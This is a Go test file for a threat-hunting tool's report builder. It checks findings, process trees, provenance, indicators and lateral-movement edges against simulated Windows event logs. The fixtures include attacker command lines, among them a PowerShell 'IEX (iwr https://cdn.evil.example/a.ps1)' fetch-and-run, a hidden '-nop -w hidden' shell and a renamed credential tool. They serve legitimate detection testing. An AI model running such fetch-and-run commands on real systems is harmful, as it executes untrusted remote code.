package build_test

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"hunt/evtx"
	"hunt/evtx/evtxtest"
	"hunt/report"
	"hunt/report/build"
	"hunt/report/reporttest"
	"hunt/report/verify"
	"hunt/rules"
	"hunt/rules/pack"
	"hunt/samples"
	"hunt/timeline"
	"hunt/timeline/evidence"
)

const (
	chrome = reporttest.Chrome
	shell  = reporttest.Shell
)

// What every report must hold, tried on all shipped samples with all shipped rules.
func TestReportsOfTheSamplesHold(t *testing.T) {
	t.Parallel()
	root := filepath.Join("..", "..", "samples")
	expect, err := samples.Load(os.DirFS(root))
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range expect.Cases {
		t.Run(c.Path, func(t *testing.T) {
			t.Parallel()
			r, col := reporttest.ReportOf(t, filepath.Join(root, c.Path), build.Options{}, rules.Options{})
			checkReport(t, r)
			for _, m := range c.Matches {
				if !slices.ContainsFunc(r.Findings, func(f report.Finding) bool {
					return f.Rule.ID == m.Rule && string(f.Status) == m.Status && strings.EqualFold(f.Host, m.Host)
				}) {
					t.Errorf("%s: no %s of %s", m.Host, m.Status, m.Rule)
				}
			}
			v, err := verify.Evidence(t.Context(), r, col)
			if err != nil {
				t.Fatal(err)
			}
			for _, rec := range v.Records {
				if rec.Result != "match" {
					t.Errorf("verify: %+v", rec)
				}
			}
			if strings.Contains(c.Path, "benign") || strings.Contains(c.Path, "known-good") {
				for _, word := range []report.Severity{report.SeverityHigh, report.SeverityCritical} {
					if r.Summary.Severity == word || r.Summary.BySeverity[word] > 0 {
						t.Errorf("a harmless case reads %q", r.Summary.Headline)
					}
				}
				for _, rec := range r.Recommendations {
					if rec.Kind == "contain" || rec.Kind == "reset" {
						t.Errorf("a harmless case asks to %s: %s", rec.Kind, rec.Text)
					}
				}
			}
		})
	}
}

func checkReport(t *testing.T, r *report.Report) {
	t.Helper()
	byID := map[string]*report.Finding{}
	for i := range r.Findings {
		f := &r.Findings[i]
		if byID[f.ID] != nil {
			t.Errorf("two findings %s", f.ID)
		}
		byID[f.ID] = f
		checkFinding(t, r, f)
	}
	told := map[string]bool{}
	for _, i := range r.Incidents {
		for _, id := range i.Findings {
			if told[id] || byID[id] == nil || byID[id].Incident != i.ID {
				t.Errorf("incident %s: %s is elsewhere, or not there", i.ID, id)
			}
			told[id] = true
		}
	}
	for id, f := range byID {
		if weighs := f.Status == report.StatusFinding &&
			f.Rule.Severity.AtLeast(report.SeverityMedium); told[id] != (f.Incident != "") || weighs && !told[id] {
			t.Errorf("%s is of the incident %q, and told of one: %v", id, f.Incident, told[id])
		}
	}
	for i, row := range r.Timeline {
		if i > 0 && *row.Time < *r.Timeline[i-1].Time {
			t.Errorf("timeline row %d is out of order", i)
		}
		if row.Ref.PayloadSHA256 == "" {
			t.Errorf("timeline row %d has no hash", i)
		}
		for _, id := range row.Findings {
			if byID[id] == nil {
				t.Errorf("timeline row %d speaks of %s", i, id)
			}
		}
	}
	for _, n := range r.Indicators {
		if strings.HasPrefix(n.Value, `C:\Windows\System32`) || n.Value == "127.0.0.1" || n.Value == "localhost" {
			t.Errorf("indicator %s", n.Value)
		}
		for _, id := range n.Findings {
			if byID[id] == nil || byID[id].Status == "suppressed" {
				t.Errorf("indicator %s is of %s", n.Value, id)
			}
		}
		if n.Count == 0 || n.First == nil || *n.First > *n.Last {
			t.Errorf("indicator %+v", n)
		}
	}
	s := r.Summary
	counted := s.Headline == string(s.Verdict)
	if n := len(r.Incidents); n > 0 {
		i := &r.Incidents[0]
		counted = strings.HasPrefix(s.Headline, report.Count(n, "suspected incident", "suspected incidents")+" ") &&
			strings.Contains(s.Headline, " on ") && (n == 1 || strings.Contains(s.Headline, "s (")) &&
			strings.Contains(s.Headline, i.Hosts[0]) &&
			strings.Contains(s.Headline, fmt.Sprintf("%s severity, %s confidence", s.Severity, s.Confidence)) &&
			i.Severity == s.Severity
	} else if s.Findings+s.Partial > 0 {
		counted = strings.HasPrefix(s.Headline, "No suspected incident: ")
	}
	if !counted || (s.Severity == "") != (s.Findings+s.Partial == 0) {
		t.Errorf("headline %q for %q, %q, %q", s.Headline, s.Verdict, s.Severity, s.Confidence)
	}
	for _, l := range slices.Concat(s.Lines, s.NotSeen, r.Accounting.Limits) {
		if !strings.HasSuffix(l, ".") || strings.Contains(l, "%!") || strings.Contains(l, "  ") {
			t.Errorf("not a sentence: %q", l)
		}
	}
}

func checkFinding(t *testing.T, r *report.Report, f *report.Finding) {
	t.Helper()
	if f.Title == "" || f.Host == "" || f.Verdict == "" || f.Start == nil || f.End == nil || *f.Start > *f.End {
		t.Errorf("%s: %q on %q: %q, %v to %v", f.ID, f.Title, f.Host, f.Verdict, f.Start, f.End)
	}
	var refs []report.Ref
	events := slices.Clone(f.Evidence)
	for _, c := range f.Candidates {
		events = append(events, c.Evidence)
	}
	for _, e := range events {
		if !e.Missing {
			refs = append(append(refs, e.Ref), e.Also...)
		}
		for _, a := range e.Also {
			if a.Why == "twin" && (a.Channel == "" || a.EventCode == "") {
				t.Errorf("%s: a twin does not say what it is", f.ID)
			}
		}
	}
	for i, p := range f.Provenance {
		refs = append(refs, *p.Ref)
		if i > 0 && *p.Time < *f.Provenance[i-1].Time && f.Provenance[i-1].Kind != "url" {
			t.Errorf("%s: provenance is out of order at %s", f.ID, p.Text)
		}
	}
	for _, d := range f.Decoded {
		refs = append(refs, d.Refs...)
	}
	if f.Logon != nil && f.Logon.Ref != nil { // the first finding of the session has it
		refs = append(refs, *f.Logon.Ref)
	}
	for _, ref := range refs {
		if len(ref.PayloadSHA256) != 64 {
			t.Errorf("%s: %s record %d has no hash", f.ID, ref.File, ref.EventRecordID)
		}
	}
	if len(f.Context) > 60 || !slices.IsSorted(f.Context) {
		t.Errorf("%s: context %v", f.ID, f.Context)
	}
	for _, i := range f.Context {
		if row := r.Timeline[i]; row.Host != f.Host || *row.Time+120*evtx.TicksPerSecond < *f.Start ||
			*row.Time > *f.End+120*evtx.TicksPerSecond {
			t.Errorf("%s: context row %d is of %s at %s", f.ID, i, row.Host, row.Time)
		}
	}
	marked := 0
	walk(f.Lineage, func(p *report.Process, depth int) {
		if p.Evidence {
			marked++
		}
		if depth > 40 {
			t.Errorf("%s: the tree is %d deep", f.ID, depth)
		}
	})
	if f.Lineage != nil && marked == 0 {
		t.Errorf("%s: the tree shows no process of the evidence", f.ID)
	}
}

func walk(p *report.Process, visit func(*report.Process, int)) {
	var down func(*report.Process, int)
	down = func(p *report.Process, depth int) {
		visit(p, depth)
		for _, c := range p.Children {
			down(c, depth+1)
		}
	}
	if p != nil {
		down(p, 0)
	}
}

// outline draws a process tree: name, ! for evidence, ? for inferred, +n for those left out.
func outline(p *report.Process) string {
	var b strings.Builder
	walk(p, func(p *report.Process, depth int) {
		b.WriteString(strings.Repeat("  ", depth) + p.Executable[strings.LastIndexByte(p.Executable, '\\')+1:])
		if p.Evidence {
			b.WriteString(" !")
		}
		if p.Inferred {
			b.WriteString(" ?")
		}
		if p.Omitted > 0 {
			fmt.Fprintf(&b, " +%d", p.Omitted)
		}
		b.WriteString("\n")
	})
	return b.String()
}

func TestTheLineageShowsAncestorsEvidenceAndWhatItStarted(t *testing.T) {
	t.Parallel()
	w := reporttest.NewWorld(t)
	reporttest.Attack(w)
	w.Start("09:01:00", 101, chrome, chrome+" --type=renderer", 100, chrome)
	w.Start("09:01:01", 102, `C:\Windows\System32\notepad.exe`, "notepad", 100, chrome)
	w.Start("09:10:05", 201, `C:\Users\j.doe\AppData\Local\Temp\stage.exe`, "stage.exe", 200, shell)
	w.Start("09:10:06", 202, `C:\Windows\System32\whoami.exe`, "whoami /all", 201,
		`C:\Users\j.doe\AppData\Local\Temp\stage.exe`)
	f := reporttest.Only(t, w.Report(build.Options{}, rules.Options{}, "rules.toml"), "test-browser-shell")
	want := `explorer.exe ?
  chrome.exe +2
    powershell.exe !
      stage.exe
        whoami.exe
`
	if have := outline(f.Lineage); have != want {
		t.Errorf("have\n%swant\n%s", have, want)
	}
	if src := f.Lineage.Source; src != "named as parent: its own start was not logged" {
		t.Errorf("the inferred parent is from %q", src)
	}
}

func TestTheLineageIsBoundedInDepthAndBreadth(t *testing.T) {
	t.Parallel()
	w := reporttest.NewWorld(t)
	for i := range 30 {
		w.Start(fmt.Sprintf("08:00:%02d", i), 10+i, fmt.Sprintf(`C:\a\p%d.exe`, i), "p", 9+i,
			fmt.Sprintf(`C:\a\p%d.exe`, i-1))
	}
	w.Start("09:00:00", 200, shell, "powershell", 39, `C:\a\p29.exe`)
	for i := range 60 {
		w.Start(fmt.Sprintf("09:01:%02d", i), 300+i, fmt.Sprintf(`C:\b\c%d.exe`, i), "c", 200, shell)
	}
	f := reporttest.Only(t, w.Report(build.Options{}, rules.Options{}, "shell.toml"), "test-shell")
	above, below, omitted := 0, 0, 0
	walk(f.Lineage, func(p *report.Process, _ int) {
		switch {
		case strings.HasPrefix(p.Executable, `C:\a\`):
			above++
		case strings.HasPrefix(p.Executable, `C:\b\`):
			below++
		}
		omitted += p.Omitted
	})
	if above != 12 || below != 25 || omitted != 35 {
		t.Errorf("%d ancestors, %d children, %d left out", above, below, omitted)
	}
}

func TestProcessesWithoutACommonAncestorHaveTreesOfTheirOwn(t *testing.T) {
	t.Parallel()
	w := reporttest.NewWorld(t)
	w.Start("09:10:00", 200, shell, "powershell", 100, chrome)
	w.Created("09:10:04", 900, `C:\x\other.exe`, `C:\Users\j.doe\AppData\Local\Temp\drop.dll`)
	w.Start("09:00:00", 900, `C:\x\other.exe`, "other", 800, `C:\x\service.exe`)
	f := reporttest.Only(t, w.Report(build.Options{}, rules.Options{}, "rules.toml"), "test-browser-shell")
	want := "(no common ancestor in the logs) ?\n  chrome.exe ?\n    powershell.exe !\n  service.exe ?\n    " +
		"other.exe !\n"
	if have := outline(f.Lineage); have != want {
		t.Errorf("have\n%swant\n%s", have, want)
	}
	if f.Verdict != "incomplete chain" {
		t.Errorf("steps that share host and time only are a %s", f.Verdict)
	}
}

func TestContextIsTheNearestAndSaysThatThereIsMore(t *testing.T) {
	t.Parallel()
	w := reporttest.NewWorld(t)
	reporttest.Attack(w)
	for i := range 200 {
		w.Sysmon(5, fmt.Sprintf("09:%02d:%02d", 9+i/100, i%100*59/100), fmt.Sprintf("ProcessGuid=%d", 5000+i),
			"ProcessId=5", `Image=C:\x.exe`)
	}
	// too loud to show
	w.Sysmon(7, "09:10:01", "ProcessGuid=200", "ProcessId=200", "Image="+shell,
		`ImageLoaded=C:\Windows\System32\ntdll.dll`)
	w.Sysmon(5, "10:00:00", "ProcessGuid=1", "ProcessId=5", `Image=C:\far.exe`)
	r := w.Report(build.Options{MaxRows: 50}, rules.Options{}, "rules.toml")
	f := reporttest.Only(t, r, "test-browser-shell")
	if want := len(f.Evidence) + 40; len(r.Timeline) != want {
		t.Errorf("%d rows, want %d", len(r.Timeline), want)
	}
	for _, row := range r.Timeline {
		if row.EventCode == "7" || strings.Contains(row.Message, "far.exe") {
			t.Errorf("the timeline shows %s", row.Message)
		}
		if d := row.Time.Time().Sub(f.Start.Time()); d < -30e9 || d > 60e9 {
			t.Errorf("a row at %s is not among the nearest to %s", row.Time, f.Start)
		}
	}
	if !slices.ContainsFunc(r.Accounting.Bounds, func(b report.BoundNote) bool {
		return b.ID == "report-context-events"
	}) {
		t.Errorf("the bound is not said: %v", r.Accounting.Bounds)
	}
	w.Sysmon(5, "09:10:30", "ProcessGuid=7000", "ProcessId=5", `Image=C:\x.exe`)
	if few := w.Report(build.Options{MaxRows: 3}, rules.Options{}, "rules.toml"); len(few.Timeline) >
		len(f.Evidence)+3 {
		t.Errorf("%d rows beside %d of evidence, want 3 at most", len(few.Timeline)-len(f.Evidence), len(f.Evidence))
	}
}

func TestCopiesOfALogAreCitedAndCountedOnce(t *testing.T) {
	t.Parallel()
	w := reporttest.NewWorld(t)
	reporttest.Attack(w)
	w.Write()
	b, err := os.ReadFile(filepath.Join(w.Dir, "Microsoft-Windows-Sysmon%4Operational.evtx"))
	if err != nil {
		t.Fatal(err)
	}
	w.File("copy/sysmon.evtx", b)
	r := w.Report(build.Options{}, rules.Options{}, "rules.toml")
	f := reporttest.Only(t, r, "test-browser-shell")
	for _, e := range f.Evidence {
		if len(e.Also) != 1 || e.Also[0].Why != "duplicate" || e.Also[0].File == e.Ref.File ||
			e.Also[0].PayloadSHA256 != e.Ref.PayloadSHA256 {
			t.Errorf("%s: also %+v", e.Label, e.Also)
		}
	}
	if len(r.Timeline) != 2 {
		t.Errorf("%d rows", len(r.Timeline))
	}
	if c := r.Accounting.Records; c.Read != 6 || c.Kept != 3 || c.Duplicate != 3 {
		t.Errorf("%+v", c)
	}
	checkReport(t, r)
}

func TestTheSessionIsFoundInAnotherFile(t *testing.T) {
	t.Parallel()
	w := reporttest.NewWorld(t)
	reporttest.Attack(w)
	w.Logon(reporttest.TestHost, "08:00:00", "j.doe", "0x7030d", "10", "10.0.0.7")
	l := reporttest.Only(t, w.Report(build.Options{}, rules.Options{}, "rules.toml"), "test-browser-shell").Logon
	if l == nil || l.Type != "RemoteInteractive" || l.SourceIP != "10.0.0.7" || l.User != `CORP\j.doe` ||
		l.SID != "S-1-5-21-1-2-3-1104" || l.Source != "Security 4624" || l.Ref.File != "Security.evtx" {
		t.Errorf("%+v", l)
	}
}

func TestASessionWhoseLogonIsNotLoggedSaysSo(t *testing.T) {
	t.Parallel()
	w := reporttest.NewWorld(t)
	reporttest.Attack(w)
	l := reporttest.Only(t, w.Report(build.Options{}, rules.Options{}, "rules.toml"), "test-browser-shell").Logon
	if l == nil || l.Type != "" || l.SourceIP != "" || l.User != `CORP\j.doe` || l.LogonID != "0x7030d" ||
		l.Source != "Sysmon 1: the logon itself is not in the logs" || l.Time != nil {
		t.Errorf("%+v", l)
	}
}

func TestProvenanceRunsFromAddressToNetwork(t *testing.T) {
	t.Parallel()
	w := reporttest.NewWorld(t)
	payload := `C:\Users\j.doe\Downloads\invoice.exe`
	w.Start("09:00:00", 100, chrome, chrome, 90, `C:\Windows\explorer.exe`)
	w.Created("09:10:00", 100, chrome, payload)
	w.Sysmon(15, "09:10:01", "ProcessGuid=100", "ProcessId=100", "Image="+chrome,
		"TargetFilename="+payload+":Zone.Identifier", "Hash=Unknown",
		"Contents=[ZoneTransfer]  ZoneId=3  ReferrerUrl=https://mail.example/  HostUrl=https://cdn.example/invoice.exe")
	w.Start("09:10:10", 200, payload, payload, 100, chrome,
		"Hashes=SHA256=6C8BC844085A1EE3BD837199F8680C665CC662A23931BB708E869A1BEBF9DB8E")
	w.Sysmon(22, "09:10:12", "ProcessGuid=200", "ProcessId=200", "QueryName=c2.example", "QueryStatus=0",
		"Image="+payload)
	w.Sysmon(22, "09:10:13", "ProcessGuid=100", "ProcessId=100", "QueryName=news.example", "QueryStatus=0",
		"Image="+chrome)
	w.Created("09:10:14", 100, chrome, `C:\Users\j.doe\Downloads\holiday.jpg`)
	r := w.Report(build.Options{}, rules.Options{}, "run.toml")
	f := reporttest.Only(t, r, "test-download-run")
	var have []string
	for _, p := range f.Provenance {
		have = append(have, string(p.Kind)+" "+p.Text+" ("+p.Source+")")
	}
	want := []string{"url https://mail.example/ (Sysmon 15 Zone.Identifier, referrer)",
		"url https://cdn.example/invoice.exe (Sysmon 15 Zone.Identifier)",
		"file " + payload + " (Sysmon 11)", "execution " + payload + " (Sysmon 1)", "network c2.example (Sysmon 22)"}
	if !slices.Equal(have, want) {
		t.Errorf("have %q\nwant %q", have, want)
	}
	checkReport(t, r)
}

func TestIndicatorsMeanSomething(t *testing.T) {
	t.Parallel()
	w := reporttest.NewWorld(t)
	temp := `C:\Users\j.doe\AppData\Local\Temp\evil.exe`
	hashes := func(c string) string {
		return "Hashes=MD5=" + strings.Repeat(c, 32) + ",SHA256=" + strings.Repeat(c, 64)
	}
	w.Start("09:10:00", 200, shell,
		"powershell IEX (iwr https://cdn.evil.example/a.ps1?x=1); iwr http://localhost:3000/; iwr "+
			"http://dl.corp.example/x.msi; iwr https://drive.google.com/uc?id=1 -x 'http://schemas.microsoft.com/p'",
		100, chrome,
		hashes("A"), "OriginalFileName=PowerShell.EXE")
	w.Start("09:10:01", 201, temp, temp, 200, shell, hashes("B"))
	// somebody's copy
	w.Start("09:10:02", 202, `C:\Windows\System32\payload.exe`, "payload.exe", 200, shell, hashes("C"),
		"OriginalFileName=mimi.exe")
	w.Start("09:10:03", 203, `C:\Windows\System32\evil.exe`, "evil.exe", 200, shell,
		"Hashes=MD5="+strings.Repeat("0", 32), "OriginalFileName=evil.exe")
	// a copy of a stock program, which may be called as the program is
	w.Start("09:10:04", 204, `C:\Users\j.doe\powershell.exe`, "powershell.exe", 100, chrome, hashes("D"),
		"OriginalFileName=PowerShell.EXE", "Company=Microsoft Corporation",
		"Product=Microsoft® Windows® Operating System")
	for i, to := range []string{"127.0.0.1", "fe80::1", "10.9.9.9", "198.51.100.7", "::1", "224.0.0.1"} {
		w.Sysmon(3, fmt.Sprintf("09:10:1%d", i), "ProcessGuid=201", "ProcessId=201", "Image="+temp, "DestinationIp="+to,
			"DestinationPort=443", "Protocol=tcp", "Initiated=true")
	}
	for i, name := range []string{"ws-01.corp.example", "WPAD", "7.100.51.198.in-addr.arpa", "c2.evil.example"} {
		w.Sysmon(22, fmt.Sprintf("09:10:2%d", i), "ProcessGuid=201", "ProcessId=201", "QueryName="+name,
			"QueryStatus=0", "Image="+temp)
	}
	const stock = " (its version information, which can be forged, names it PowerShell.EXE of Microsoft: if that is " +
		"true, many hosts have it, so look for the path, too)"
	var have []string
	for _, n := range w.Report(build.Options{}, rules.Options{}, "shell.toml").Indicators {
		line := string(n.Type) + " " + n.Value
		if n.Note != "" {
			line += " (" + n.Note + ")"
		}
		have = append(have, line)
	}
	want := []string{
		"domain c2.evil.example", "domain cdn.evil.example",
		"domain dl.corp.example (in the domain of the hosts examined)",
		"domain drive.google.com (widely used service: the name by itself is not a sign of an attack)",
		"ip 10.9.9.9 (private address: means something within this network only)", "ip 198.51.100.7",
		"md5 " + strings.Repeat("b", 32), "md5 " + strings.Repeat("c", 32), "path " + temp,
		`path C:\Windows\System32\payload.exe`,
		`path C:\Users\j.doe\powershell.exe`, "md5 " + strings.Repeat("d", 32) + stock,
		"sha256 " + strings.Repeat("d", 64) + stock,
		"sha256 " + strings.Repeat("b", 64), "sha256 " + strings.Repeat("c", 64),
		"url http://dl.corp.example/x.msi (in the domain of the hosts examined)",
		"url https://cdn.evil.example/a.ps1?x=1", "url https://drive.google.com/uc?id=1",
	}
	slices.Sort(want)
	slices.Sort(have)
	if !slices.Equal(have, want) {
		t.Errorf("have %q\nwant %q", have, want)
	}
}

func TestAccountsAndTheWaysBetweenHosts(t *testing.T) {
	t.Parallel()
	w := reporttest.NewWorld(t)
	reporttest.Attack(w)
	const server = "SRV-02.corp.example"
	w.Logon(reporttest.TestHost, "08:00:00", "j.doe", "0x7030d", "2", "127.0.0.1")
	w.Logon(server, "09:20:00", "j.doe", "0x9001", "3", "10.0.0.7")
	w.Logon(server, "09:21:00", "j.doe", "0x9002", "3", "10.0.0.7")
	w.Logon(server, "09:22:00", "adm", "0x9003", "10", "::ffff:10.0.0.8")
	w.SecurityOn(server, 4625, "09:23:00", "TargetUserSid=S-1-0-0", "TargetUserName=adm", "TargetDomainName=CORP",
		"LogonType=3", "IpAddress=10.0.0.7", "WorkstationName=KIOSK", "Status=0xc000006d")
	w.Security(4648, "09:19:00", "SubjectUserSid=S-1-5-21-1-2-3-1104", "SubjectUserName=j.doe",
		"SubjectDomainName=CORP", "SubjectLogonId=0x7030d", "TargetUserName=adm", "TargetDomainName=CORP",
		"TargetServerName=SRV-02.corp.example")
	w.Security(4648, "09:19:01", "SubjectUserSid=S-1-5-21-1-2-3-1104", "SubjectUserName=j.doe",
		"SubjectDomainName=CORP", "SubjectLogonId=0x7030d", "TargetUserName=adm", "TargetDomainName=CORP",
		"TargetServerName=localhost")
	r := w.Report(build.Options{}, rules.Options{}, "rules.toml")
	var accounts, edges []string
	for _, a := range r.Accounts {
		accounts = append(accounts,
			fmt.Sprintf("%s %s: %d logons, %d failures, %d findings, %s on %s", a.Name, a.SID, a.Logons, a.Failures,
				a.Findings, strings.Join(a.LogonTypes, "+"), strings.Join(a.Hosts, "+")))
	}
	for _, e := range r.LateralEdges {
		edges = append(edges, fmt.Sprintf("%s -> %s: %s of %s, %d", e.From, e.To, e.How, e.User, e.Count))
	}
	if want := []string{
		`CORP\j.doe S-1-5-21-1-2-3-1104: 3 logons, 0 failures, 1 findings, Interactive+Network on srv-02.corp.example+ws-01.corp.example`,
		`CORP\adm S-1-5-21-1-2-3-1105: 1 logons, 1 failures, 0 findings, RemoteInteractive on srv-02.corp.example+ws-01.corp.example`,
	}; !slices.Equal(accounts, want) {
		t.Errorf("accounts %q\nwant %q", accounts, want)
	}
	if want := []string{
		`ws-01.corp.example -> srv-02.corp.example: use of explicit credentials of CORP\adm, 1`,
		`10.0.0.7 (claims to be KIOSK) -> srv-02.corp.example: network logon of CORP\j.doe, 2`,
		`10.0.0.8 -> srv-02.corp.example: Remote Desktop logon of CORP\adm, 1`,
	}; !slices.Equal(edges, want) {
		t.Errorf("edges %q\nwant %q", edges, want)
	}
}

// ids of findings name rule and evidence, not where the files lie or what else was asked for.
func TestFindingIdsAreStable(t *testing.T) {
	t.Parallel()
	a, b := reporttest.NewWorld(t), reporttest.NewWorld(t)
	reporttest.Attack(a)
	reporttest.Attack(b)
	b.Write()
	if err := os.Rename(filepath.Join(b.Dir, "Microsoft-Windows-Sysmon%4Operational.evtx"),
		filepath.Join(b.Dir, "x.bin")); err != nil {
		t.Fatal(err)
	}
	b.Logs = nil
	x := reporttest.Only(t, a.Report(build.Options{}, rules.Options{}, "rules.toml"), "test-browser-shell")
	y := reporttest.Only(t, b.Report(build.Options{Run: report.Run{NoDefaultTuning: true}}, rules.Options{},
		"rules.toml", "shell.toml"), "test-browser-shell")
	if x.ID != y.ID {
		t.Errorf("%s and %s", x.ID, y.ID)
	}
}

func TestTwoBuildsGiveTheSameBytes(t *testing.T) {
	t.Parallel()
	dir := filepath.Join("..", "..", "samples", "multi-host")
	a, _ := reporttest.ReportOf(t, dir, build.Options{}, rules.Options{})
	b, _ := reporttest.ReportOf(t, dir, build.Options{}, rules.Options{})
	if !bytes.Equal(reporttest.WriteJSON(t, a), reporttest.WriteJSON(t, b)) {
		t.Error("two reports of one evidence differ")
	}
}

func TestTwinsAreOneEventWithBothReferences(t *testing.T) {
	t.Parallel()
	w := reporttest.NewWorld(t)
	reporttest.Attack(w)
	twinOf(w, "j.doe", "0x7030d")
	f := reporttest.Only(t, w.Report(build.Options{}, rules.Options{}, "rules.toml"), "test-browser-shell")
	also := f.Evidence[0].Also
	if len(also) != 1 || also[0].Why != "twin" || also[0].Channel != "Security" || also[0].EventCode != "4688" ||
		also[0].PayloadSHA256 == "" {
		t.Errorf("%+v", also)
	}
	if len(f.Labels) > 0 {
		t.Errorf("labels %q", f.Labels)
	}
}

// twinOf adds the 4688 of the attack's shell, for a user.
func twinOf(w *reporttest.World, user, logonID string) {
	w.Add("Security", evtxtest.Event{Provider: "Microsoft-Windows-Security-Auditing",
		GUID: "{54849625-5478-4994-A5BA-3E3B0328C30D}", Channel: "Security", EventID: 4688, Version: 2,
		Time: reporttest.When("09:10:00"),
		Data: append(reporttest.Pairs("SubjectUserSid=S-1-5-21-1-2-3-1104", "SubjectUserName="+user,
			"SubjectDomainName=CORP", "SubjectLogonId="+logonID),
			evtxtest.Pair{Name: "NewProcessId", Value: evtxtest.Hex64(200)}, evtxtest.Str("NewProcessName", shell),
			evtxtest.Str("TokenElevationType", "%%1938"),
			evtxtest.Pair{Name: "ProcessId", Value: evtxtest.Hex64(100)},
			evtxtest.Str("CommandLine", "powershell.exe -nop -w hidden"),
			evtxtest.Pair{Name: "TargetUserSid", Value: evtxtest.SID("S-1-0-0")},
			evtxtest.Str("TargetUserName", "-"), evtxtest.Str("TargetDomainName", "-"),
			evtxtest.Pair{Name: "TargetLogonId", Value: evtxtest.Hex64(0)}, evtxtest.Str("ParentProcessName", chrome))})
}

func TestShiftedValuesAreSaidInTheSummaryAndTheAccounting(t *testing.T) {
	t.Parallel()
	w := reporttest.NewWorld(t)
	reporttest.Attack(w)
	w.Add("Security", evtxtest.Event{Provider: "Microsoft-Windows-Security-Auditing",
		GUID: "{54849625-5478-4994-A5BA-3E3B0328C30D}", Channel: "Security", EventID: 4688, Version: 2,
		Time: reporttest.When("09:20:00"),
		Data: append(reporttest.Pairs("SubjectUserSid=S-1-5-21-1-2-3-1104", "SubjectUserName=j.doe",
			"SubjectDomainName=CORP", "SubjectLogonId=0x7030d"),
			evtxtest.Pair{Name: "NewProcessId", Value: evtxtest.Hex64(300)}, evtxtest.Str("NewProcessName", shell),
			evtxtest.Str("TokenElevationType", "%%1938"),
			evtxtest.Pair{Name: "ProcessId", Value: evtxtest.Hex64(100)},
			evtxtest.Pair{Name: "CommandLine", Value: evtxtest.SID("S-1-0-0")}, evtxtest.Str("TargetUserSid", "-"),
			evtxtest.Str("TargetUserName", "-"), evtxtest.Pair{Name: "TargetDomainName", Value: evtxtest.Hex64(0)},
			evtxtest.Str("TargetLogonId", chrome),
			evtxtest.Pair{Name: "ParentProcessName", Value: evtxtest.SID("S-1-16-8192")},
			evtxtest.Str("MandatoryLabel", ""))})
	r := w.Report(build.Options{}, rules.Options{}, "rules.toml")
	if d := r.Accounting.Damage; len(d) != 1 || d[0].Kind != "values-shifted" || d[0].Loses {
		t.Errorf("damage %+v", d)
	}
	if said := strings.Join(r.Summary.NotSeen, "\n"); !strings.Contains(said, "At least 1 record has shifted values") {
		t.Errorf("not seen: %s", said)
	}
}

func TestFindingsOfTheSameEventsUnderOtherKeysHaveIDsOfTheirOwn(t *testing.T) {
	w := reporttest.NewWorld(t)
	w.Start("09:00:00", 100, chrome, "one two three", 90, `C:\Windows\explorer.exe`)
	w.Start("09:00:01", 200, shell, "one two four", 100, chrome)
	if err := os.WriteFile(filepath.Join(w.Dir, "rule.eql"),
		[]byte(`sequence by process.args with maxspan=30s [process where process.name == "chrome.exe"] [process where process.name == "powershell.exe"]`), 0o600); err != nil {
		t.Fatal(err)
	}
	w.Write()
	pk, err := pack.Load(pack.Sources{NoDefaultRules: true, Rules: []string{filepath.Join(w.Dir, "rule.eql")}})
	if err != nil {
		t.Fatal(err)
	}
	col, err := evidence.Collect(t.Context(), evidence.Inputs(w.Dir), evidence.Options{})
	if err != nil {
		t.Fatal(err)
	}
	res, err := rules.Run(t.Context(), timeline.Of(col), pk, rules.Options{})
	if err != nil {
		t.Fatal(err)
	}
	r, err := build.Report(t.Context(), res, build.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Findings) != 2 {
		t.Fatalf("%d findings, want one for each of two arguments in common", len(r.Findings))
	}
	checkReport(t, r)
}
